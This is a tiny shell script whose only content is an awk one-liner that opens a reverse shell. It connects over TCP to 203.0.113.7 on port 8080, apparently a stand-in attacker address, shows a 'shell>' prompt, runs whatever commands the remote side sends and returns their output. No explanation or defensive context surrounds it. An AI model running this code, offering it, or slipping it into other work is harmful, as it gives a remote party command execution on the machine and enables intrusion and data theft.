#!/bin/sh
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/8080"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c) } } while(c != "exit") close(s) }}' /dev/null
